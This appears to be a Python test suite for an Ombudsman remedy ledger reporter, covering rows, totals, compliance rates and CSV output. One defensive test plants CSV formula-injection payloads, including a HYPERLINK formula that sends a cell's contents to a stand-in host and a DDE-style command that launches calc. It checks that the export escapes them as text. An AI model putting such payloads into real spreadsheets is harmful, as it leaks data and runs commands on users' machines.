"""The Ombudsman remedy ledger: rows, totals and the compliance rate, from canned answers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from fake_api import LEDGER_ROWS, TEAMS, FakeApi, ledger_row

from services.reporter.api_models import OmbudsmanLedger, Team
from services.reporter.client import ApiClient
from services.reporter.csv_cells import FORMULA_STARTS
from services.reporter.financial_year import FinancialYear
from services.reporter.ledger import (
    LEDGER_CSV_HEADER,
    assemble_ledger,
    compile_ledger,
    ledger_csv_rows,
)
from services.reporter.output import ledger_files
from services.reporter.report_models import LedgerReport
from services.reporter.settings import ReporterSettings

YEAR = FinancialYear(2018)
GENERATED = datetime(2019, 5, 1, 9, 30, tzinfo=UTC)
TEAM_LIST = [Team.model_validate(t) for t in TEAMS]


def ledger(rows: list[dict[str, object]], as_of: str = "2019-04-30") -> OmbudsmanLedger:
    return OmbudsmanLedger.model_validate(
        {"financial_year": "2018-19", "as_of": as_of, "rows": rows}
    )


def make(rows: list[dict[str, object]] = LEDGER_ROWS, as_of: str = "2019-04-30") -> LedgerReport:
    return assemble_ledger(TEAM_LIST, ledger(rows, as_of), YEAR, GENERATED)


def csv_file_rows(report: LedgerReport) -> list[list[str]]:
    text = ledger_files(report)[1].content.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_row_names_its_team_and_prints_money_in_pounds() -> None:
    report = make()
    first = report.rows[0]
    assert (first.ombudsman_reference, first.complaint_reference) == ("18 000 871", "CS-1819-0001")
    assert (first.team, first.team_name) == ("children-community", "Community Solutions")
    assert (first.amount, first.amount_pence, first.payee_label) == ("200.00", 20000, "Mr B")
    assert first.decision_date == date(2018, 11, 20)
    assert report.rows[1].amount is None
    assert report.rows[1].days_late == 14


def test_totals_by_service_and_type_and_paid_versus_agreed() -> None:
    totals = make().totals
    assert [(t.service, t.count, t.amount) for t in totals.by_service] == [
        ("children", 3, "9324.60")
    ]
    assert [(t.type, t.count, t.amount) for t in totals.by_type] == [
        ("financial_payment", 1, "200.00"),
        ("new_assessment", 1, "0.00"),
        ("refund", 1, "9124.60"),
    ]
    # The refund is still outstanding: agreed, not yet paid.
    assert (totals.total_paid, totals.total_agreed) == ("200.00", "9324.60")


def test_compliance_counts_remedies_due_by_the_as_of_day() -> None:
    # Due 2018-12-20: one on time, one late; the refund is not due until 2019-04-12.
    early = make(as_of="2019-01-31").compliance
    assert (early.due, early.completed_on_time, early.percent) == (2, 1, 50)
    later = make(as_of="2019-04-30").compliance
    assert (later.due, later.completed_on_time, later.percent) == (3, 1, 33)


def test_a_remedy_due_on_the_as_of_day_is_due_and_one_done_that_day_is_on_time() -> None:
    rows = [ledger_row(due_on="2019-02-01", completed_on="2019-02-01")]
    compliance = make(rows, as_of="2019-02-01").compliance
    assert (compliance.due, compliance.completed_on_time, compliance.percent) == (1, 1, 100)


def test_an_empty_year_has_no_rows_zero_totals_and_no_percentage() -> None:
    report = make([])
    assert report.rows == []
    assert (report.totals.total_paid, report.totals.total_agreed) == ("0.00", "0.00")
    assert (report.compliance.due, report.compliance.percent) == (0, None)
    csv_text = ledger_files(report)[1].content.decode("utf-8")
    assert csv_text == ",".join(LEDGER_CSV_HEADER) + "\r\n"


def test_the_json_names_its_year_and_day() -> None:
    data = make().model_dump(mode="json")
    assert data["report"] == "ombudsman-ledger"
    assert (data["financial_year"], data["label"], data["as_of"]) == (
        "2018-19",
        "2018/19",
        "2019-04-30",
    )
    assert data["rows"][0]["due_date"] == "2018-12-20"


def test_csv_has_one_row_per_remedy_under_the_header() -> None:
    report = make()
    assert len(ledger_csv_rows(report)) == 3
    header, *rows = csv_file_rows(report)
    assert (
        header
        == LEDGER_CSV_HEADER
        == [
            "ombudsman_reference",
            "complaint_reference",
            "service",
            "team",
            "decision_date",
            "decision",
            "public_interest_report",
            "remedy_type",
            "description",
            "amount_pounds",
            "payee_label",
            "due_date",
            "completed_date",
            "status",
            "days_late",
        ]
    )
    assert len(rows) == 3
    assert rows[1] == [
        "18 000 871",
        "CS-1819-0001",
        "children",
        "children-community",
        "2018-11-20",
        "fault_injustice",
        "true",
        "new_assessment",
        "A new assessment, within one month",
        "",
        "Mr B",
        "2018-12-20",
        "2019-01-03",
        "completed_late",
        "14",
    ]


def test_compiling_makes_two_calls_and_passes_the_day() -> None:
    api = FakeApi()
    with ApiClient(
        ReporterSettings(api_url="http://api.test"), transport=api.transport()
    ) as client:
        report = compile_ledger(client, YEAR, date(2019, 3, 31))
    assert api.stats_paths() == ["/v1/reference/teams", "/v1/stats/ombudsman-ledger"]
    assert api.requests[1].url.params["as_of"] == "2019-03-31"
    assert report.as_of == date(2019, 3, 31)


def test_free_text_reaches_the_ledger_csv_as_text_never_as_formulas() -> None:
    planted = {
        "lgsco_reference": '=HYPERLINK("http://example.invalid/?"&A1,"18 000 871")',
        "complaint_reference": "+cmd|' /C calc'!A0",
        "description": "-2+3 a remedy that reads as a sum",
        "payee_label": "@SUM(1+1)",
    }
    tabbed = {"description": "\t=1+1", "payee_label": "\r=1+1"}
    report = make([ledger_row(**planted), ledger_row(remedy_id=32, **tabbed)])
    rows = csv_file_rows(report)
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    second = dict(zip(header, rows[2], strict=True))
    assert first["ombudsman_reference"] == "'" + planted["lgsco_reference"]
    assert first["complaint_reference"] == "'" + planted["complaint_reference"]
    assert first["description"] == "'" + planted["description"]
    assert first["payee_label"] == "'" + planted["payee_label"]
    assert (second["description"], second["payee_label"]) == ("'\t=1+1", "'\r=1+1")
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    # The figures beside them are written as figures.
    assert (first["amount_pounds"], first["due_date"], first["days_late"]) == (
        "200.00",
        "2018-12-20",
        "",
    )


def test_a_negative_figure_in_the_ledger_csv_stays_a_number() -> None:
    report = make([ledger_row(amount_pence=-1050, days_late=-3)])
    row = dict(zip(LEDGER_CSV_HEADER, csv_file_rows(report)[1], strict=True))
    assert (row["amount_pounds"], row["days_late"]) == ("-10.50", "-3")
